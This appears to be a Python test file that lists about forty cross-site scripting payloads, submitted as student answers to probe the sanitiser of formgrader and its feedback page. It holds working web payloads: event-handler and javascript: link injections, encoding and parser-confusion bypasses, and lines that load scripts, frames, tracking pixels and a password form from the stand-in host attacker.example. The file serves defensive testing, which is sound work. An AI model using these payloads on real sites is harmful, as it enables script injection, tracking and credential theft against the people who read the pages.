"""Script in formgrader and in the feedback page, from the text of a written answer."""

from __future__ import annotations

from hostile.attack import answer_attack
from hostile.submission import HIT

EVIL = "//attacker.example"

TEXTS = {
    "script-element": ("Run script by a script element.", f"<script>{HIT}</script>"),
    "script-from-elsewhere": ("Load script from the attacker.", f"<script src={EVIL}/x.js></script>"),
    "image-with-a-handler": ("Run script when an image fails.", f'<img src=x onerror="{HIT}">'),
    "unfinished-image": (
        "Have the browser finish a tag that the sanitiser did not see.",
        f'<img src=x onerror="{HIT}"',
    ),
    "svg-with-a-handler": ("Run script when a drawing loads.", f'<svg onload="{HIT}"><animate onbegin="{HIT}"></svg>'),
    "script-in-svg": ("Run script inside a drawing.", f"<svg><script>{HIT}</script></svg>"),
    "details-that-open": ("Run script by elements that need no click.", f'<details open ontoggle="{HIT}">x</details>'),
    "video-with-a-handler": ("Run script by a film without a source.", f'<video><source onerror="{HIT}"></video>'),
    "field-with-the-focus": ("Run script by a field that takes the focus.", f'<input autofocus onfocus="{HIT}">'),
    "javascript-link": ("Run script when the tutor clicks.", f"[look](javascript:{HIT.replace(' ', '')})"),
    "javascript-link-in-disguise": (
        "Hide the scheme of a link from the sanitiser by case, entities, tabs and spaces.",
        (
            "[a](JaVaScRiPt:hit) [b](&#106;avascript:hit) [c](java&Tab;script:hit) [d](&#x6A;avascript&colon;hit) "
            "[e]( javascript:hit ) [f](<java\tscript:hit>) [g](\u0001javascript:hit) <javascript:hit>"
        ),
    ),
    "javascript-by-reference": ("Hide a link's scheme in a reference.", f"[look][x]\n\n[x]: javascript:{HIT}"),
    "data-link": (
        "Run script from a page inside a link.",
        "[look](data:text/html;base64,PHNjcmlwdD5oaXQ8L3NjcmlwdD4=)",
    ),
    "links-with-other-schemes": (
        "Reach programs and files of the tutor by links.",
        "[a](vbscript:hit) [b](file:///etc/passwd) [c](ms-word:ofe|u|x) [d](blob:x) [e](view-source:x) [f](ftp://x.example)",
    ),
    "link-to-another-host-without-scheme": ("Leave the course by a link that looks relative.", f"[look]({EVIL}/login)"),
    "link-with-a-handler": (
        "Put a handler into the title of a link.",
        f"[x](https://e.example \"a' onmouseover='{HIT}\")",
    ),
    "link-that-breaks-out": (
        "Break out of a link's address.",
        f'[x](https://e.example/"onmouseover="{HIT}) <https://e/">',
    ),
    "tracking-picture": (
        "Learn when and where the tutor reads.",
        f"![x](https:{EVIL}/pixel.png) ![x]({EVIL}/pixel.gif)",
    ),
    "picture-inside-the-text": (
        "Show a drawing with script from the text itself.",
        "![x](data:image/svg+xml,<svg/onload=hit>)",
    ),
    "frame": (
        "Show another page in the tutor's.",
        f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>{HIT}</script>'>",
    ),
    "object-and-embed": ("Load a plug-in.", f"<object data={EVIL}></object><embed src='javascript:{HIT}'>"),
    "form": (
        "Ask the tutor for a password.",
        f"<form action={EVIL}><input name=password><button formaction={EVIL}>Log in",
    ),
    "style-element": (
        "Hide the page, or read it by style sheets.",
        f"<style>@import '{EVIL}';body{{display:none}}</style>",
    ),
    "style-attribute": ("Lay a link over the whole page.", f'<a href={EVIL} style="position:fixed;inset:0">x</a>'),
    "refresh-and-base": (
        "Send the tutor elsewhere.",
        f"<meta http-equiv=refresh content='0;url={EVIL}'><base href={EVIL}>",
    ),
    "link-element": ("Load a style sheet from the attacker.", f"<link rel=stylesheet href={EVIL}/x.css>"),
    "mathml": (
        "Use the places where readers of markup differ.",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={HIT}&gt;">',
    ),
    "noscript": ("Use another place where they differ.", f'<noscript><p title="</noscript><img src=x onerror={HIT}>">'),
    "template-element": (
        "Hide markup from the sanitiser in a template.",
        f"<template><script>{HIT}</script></template>",
    ),
    "split-tags": (
        "Leave a tag when the sanitiser takes another out.",
        f"<scr<script>ipt>{HIT}</scr</script>ipt><<script>{HIT}",
    ),
    "nul-in-a-tag": (
        "Break up a tag by characters that browsers skip.",
        f"<scr\u0000ipt>{HIT}</script><img/\u000csrc=x onerror={HIT}>",
    ),
    "closing-tags": (
        "Break out of the page's own elements.",
        f"--></textarea></script></style></title></div></main><script>{HIT}</script>",
    ),
    "closing-comment": (
        "Break out of a comment.",
        f"<!-- a --!><img src=x onerror={HIT}> <!--><script>{HIT}</script>-->",
    ),
    "markup-in-code": (
        "Have code read as markup the second time.",
        f"`<img src=x onerror={HIT}>`\n\n```\n<script>{HIT}</script>\n```",
    ),
    "markup-in-the-name-of-a-language": (
        "Put markup into a fence's language.",
        f'```x"onmouseover="{HIT}"><script>\na\n```',
    ),
    "markup-in-a-table": (
        "Have a table's cells read as markup.",
        f"| a | b |\n|---|---|\n| <script>{HIT}</script> | <td onload={HIT}> |",
    ),
    "markup-in-mathematics": (
        "Have mathematics passed on as it stands.",
        (
            f"$<img src=x onerror={HIT}>$ $$<script>{HIT}</script>$$ \\\\(<img src=x onerror={HIT}>\\\\)\n\n"
            f"\\begin{{equation}}<img src=x onerror={HIT}>\\end{{equation}}"
        ),
    ),
    "mathematics-with-links": (
        "Make links and styles by commands of MathJax.",
        r"$\href{javascript:window.hit=1}{x}$ $\require{html}\style{position:fixed}{x}$ $\unicode[' onload='hit]{120}$",
    ),
    "diagram": (
        "Run script by a diagram's click.",
        f'```mermaid\ngraph TD\nA["<img src=x onerror={HIT}>"]\nclick A "javascript:{HIT}"\n```',
    ),
    "entities": (
        "Have entities decoded twice.",
        f"&lt;script&gt;{HIT}&lt;/script&gt; &amp;lt;img src=x onerror={HIT}&amp;gt; &#60;b&#62;",
    ),
    "other-alphabets": (
        "Have the page read in another encoding.",
        "+ADw-script+AD4-hit+ADw-/script+AD4- \uff1cscript\uff1ehit\uff1c/script\uff1e \u2039b\u203a",
    ),
    "heading-that-takes-a-name": (
        "Take the name of an element that the page's own script looks for.",
        '<a id="written-comment" name="base_url">x</a>\n\n# written-comment\n\n# written {#written}',
    ),
    "backslashes": (
        "Undo the escaping of the sanitiser by one's own.",
        f"\\<script>{HIT}\\</script> \\\\<img src=x onerror={HIT}> \\&lt;",
    ),
}

ATTACKS = [answer_attack(name, purpose, text, browser=True) for name, (purpose, text) in TEXTS.items()]
